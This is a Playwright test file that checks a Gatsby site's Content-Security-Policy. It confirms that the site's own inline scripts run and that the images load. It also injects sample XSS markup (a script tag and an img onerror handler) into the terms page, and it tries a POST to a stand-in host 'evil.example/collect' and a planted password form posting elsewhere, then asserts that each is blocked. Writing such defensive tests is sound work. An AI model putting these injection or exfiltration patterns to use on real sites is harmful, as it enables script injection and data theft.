// The Content-Security-Policy in the browser: the site's own scripts run, everything else is blocked.
import type { Locator, Page, Route } from "@playwright/test";
import { markdownHeadings, pageOf } from "../support/site-content";
import { FORM_SERVICE, pagePaths, recordViolations, REFUSED, violations } from "./csp-helpers";
import { expectHeroMoves, expectProjectsSlide, expectWorksSlide } from "./carousel-helpers";
import { expect, expectConsole, projectTitles, site, test } from "./fixtures";

/** Another form at the site's form service: the policy allows only the site's own. */
const OTHER_FORM = `${FORM_SERVICE}/f/someone-else`;

interface GatsbyWindow {
  pagePath?: string;
  ___webpackCompilationHash?: string;
  ___chunkMapping?: string;
}

/** What Gatsby's inline scripts leave behind: proof that the policy let them run. */
const gatsbyGlobals = (page: Page) =>
  page.evaluate(() => {
    const w = window as GatsbyWindow;
    return {
      pagePath: w.pagePath,
      compilationHash: typeof w.___webpackCompilationHash,
      chunks: typeof w.___chunkMapping,
    };
  });

/** Serves the real response of nginx (status, headers, policy) with its HTML changed by `edit`. */
async function serveEdited(page: Page, url: string, edit: (html: string) => string) {
  await page.route(url, async (route: Route) => {
    const response = await route.fetch();
    const html = await response.text();
    const edited = edit(html);
    expect(edited, "the edit applies to the built page").not.toBe(html);
    // The body is handed over decoded, so it must not be announced as gzip.
    const headers = { ...response.headers() };
    delete headers["content-encoding"];
    delete headers["content-length"];
    await route.fulfill({ response, headers, body: edited });
  });
}

/** Moves the pointer into a slider and drags it leftwards, as a mouse user swipes to the next slide. */
async function dragLeft(page: Page, list: Locator) {
  const box = (await list.boundingBox())!;
  const y = box.y + box.height - 30;
  await page.mouse.move(box.x + box.width * 0.7, y);
  await page.mouse.down();
  await page.mouse.move(box.x + box.width * 0.2, y, { steps: 10 });
  await page.mouse.up();
}

test.describe("under the Content-Security-Policy", () => {
  test.beforeEach(async ({ page }) => {
    await recordViolations(page);
  });

  // The 404 page is Gatsby's /404.html page, at its own address and at any unknown one.
  const runtimePath = (url: string) => (url === "/404" ? "/404.html" : url);
  for (const [url, pagePath] of [
    ...pagePaths.map((p) => [p, runtimePath(p)] as const),
    ["/no-such-page", "/404.html"] as const,
  ]) {
    test(`${url} runs Gatsby's inline scripts and loads every image, with nothing blocked`, async ({
      page,
      consoleProblems,
    }) => {
      const response = await page.goto(url);
      expect(response?.headers()["content-security-policy"]).toMatch(/script-src 'self' 'sha256-/);
      expect(await gatsbyGlobals(page)).toEqual({ pagePath, compilationHash: "string", chunks: "string" });
      // Lazy images load once scrolled to; none may be refused by img-src (a refused image is broken).
      await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
      await page.waitForLoadState("networkidle");
      const broken = await page.evaluate(() =>
        [...document.images].filter((img) => img.complete && img.naturalWidth === 0).map((img) => img.src),
      );
      expect(broken).toEqual([]);
      expect(await violations(page)).toEqual([]);
      if (url === "/no-such-page") expectConsole(consoleProblems, /404 \(Not Found\)/);
    });
  }

  test("the hero, the project carousel, the lightbox and the works slider work, with nothing blocked", async ({
    page,
  }) => {
    // At 900 px the works slider slides (it has more works than fit there).
    expectWorksSlide(900);
    expectProjectsSlide();
    expectHeroMoves();
    await page.setViewportSize({ width: 900, height: 900 });
    await page.goto("/");
    const hero = page.getByRole("region", { name: "Highlights" });
    const thumb = (i: number) => `Slide ${i + 1}: ${site.hero[i]!.line1} ${site.hero[i]!.line2}`;
    await hero.getByRole("button", { name: "Next slide" }).click();
    await expect(hero.locator('button[aria-current="true"]')).toHaveAccessibleName(thumb(1));
    await hero.getByRole("button", { name: "Previous slide" }).click();
    await expect(hero.locator('button[aria-current="true"]')).toHaveAccessibleName(thumb(0));

    const projects = page.getByRole("region", { name: "Projects", exact: true });
    const chosen = Math.min(2, projectTitles.length - 1);
    const title = projectTitles[chosen]!;
    await projects.locator(".slick-dots button").nth(chosen).click();
    await expect(projects.locator(".slick-current")).toContainText(title);
    await projects
      .locator(".slick-current")
      .getByRole("button", { name: `View ${title}`, exact: true })
      .click();
    const dialog = page.getByRole("dialog");
    await expect(dialog).toHaveAccessibleName(title);
    await dialog.getByRole("button", { name: "Next project" }).click();
    await expect(dialog).toHaveAccessibleName(projectTitles[(chosen + 1) % projectTitles.length]!);
    await expect(dialog.getByRole("img")).toHaveJSProperty("complete", true);
    await dialog.getByRole("button", { name: "Close" }).click();
    await expect(dialog).toBeHidden();
    expect(await violations(page)).toEqual([]);

    await page.goto("/software");
    const works = page.getByRole("region", { name: "Works", exact: true });
    const current = () => works.locator(".slick-current").getAttribute("data-index");
    const before = await current();
    await dragLeft(page, works.locator(".slick-list"));
    await expect.poll(current).not.toBe(before);
    expect(await violations(page)).toEqual([]);
  });

  test("a page whose inline script was changed after the build runs without that script", async ({
    page,
    consoleProblems,
  }) => {
    // One statement added to the bundle loader: its text no longer matches the hash in the policy.
    await serveEdited(page, "**/services", (html) =>
      html.replace("window.pagePath=c.dataset.page;", "window.pagePath=c.dataset.page;window.__tampered=true;"),
    );
    // Without its loader the page never hydrates: wait for the document, not for React.
    const response = await page.goto("/services", { waitUntil: "domcontentloaded" });
    expect(response?.headers()["content-security-policy"]).toMatch(/script-src 'self' 'sha256-/);
    await expect.poll(() => violations(page)).toEqual(["script-src-elem inline"]);
    expect(await page.evaluate(() => "__tampered" in window)).toBe(false);
    // The whole loader was refused, not only the added statement (so the page never set its path or
    // requested its bundles, and stays as it is without JavaScript); the untouched scripts ran.
    expect(await gatsbyGlobals(page)).toEqual({ pagePath: undefined, compilationHash: "string", chunks: "string" });
    expectConsole(consoleProblems, REFUSED);
  });

  test("a script or an event handler in the Markdown of /terms does not run", async ({ page, consoleProblems }) => {
    // What raw HTML in the terms' Markdown would put into the page: inside #___gatsby, in the body text.
    const [heading] = markdownHeadings(pageOf(site, "/terms").body);
    expect(heading, "the fixture's terms need a ## heading").toBeDefined();
    const editorHtml =
      '<script>window.__editorScript=true</script><img src="data:," alt="" onerror="window.__editorHandler=true">';
    await serveEdited(page, "**/terms", (html) => html.replace('<div class="prose mx-auto">', `$&${editorHtml}`));
    await page.goto("/terms");
    await expect(page.locator("#___gatsby .prose > script")).toHaveCount(1);
    await expect
      .poll(async () => (await violations(page)).sort())
      .toEqual(["script-src-attr inline", "script-src-elem inline"]);
    expect(await page.evaluate(() => ["__editorScript" in window, "__editorHandler" in window])).toEqual([
      false,
      false,
    ]);
    // The page itself is whole: Gatsby's scripts ran and the terms are shown.
    expect(await gatsbyGlobals(page)).toEqual({ pagePath: "/terms", compilationHash: "string", chunks: "string" });
    await expect(page.getByRole("heading", { name: heading, exact: true })).toBeVisible();
    expectConsole(consoleProblems, REFUSED);
  });

  test("requests and posts anywhere but the site and its form are refused, even another form of the service", async ({
    page,
    consoleProblems,
  }) => {
    await page.goto("/contact");
    const outcomes = await page.evaluate(
      (urls) =>
        Promise.all(
          urls.map((url) =>
            fetch(url, { method: "POST", body: "x" }).then(
              () => "sent",
              () => "refused",
            ),
          ),
        ),
      ["https://evil.example/collect", OTHER_FORM],
    );
    expect(outcomes).toEqual(["refused", "refused"]);
    // A form planted in the page, posting a password to someone else's form at the same service.
    await page.evaluate((action) => {
      const form = Object.assign(document.createElement("form"), { method: "post", action });
      form.append(Object.assign(document.createElement("input"), { name: "password", value: "secret" }));
      document.body.append(form);
      form.submit();
    }, OTHER_FORM);
    await expect
      .poll(() => violations(page))
      .toEqual(["connect-src https://evil.example/collect", `connect-src ${OTHER_FORM}`, `form-action ${OTHER_FORM}`]);
    expectConsole(consoleProblems, REFUSED);
  });
});
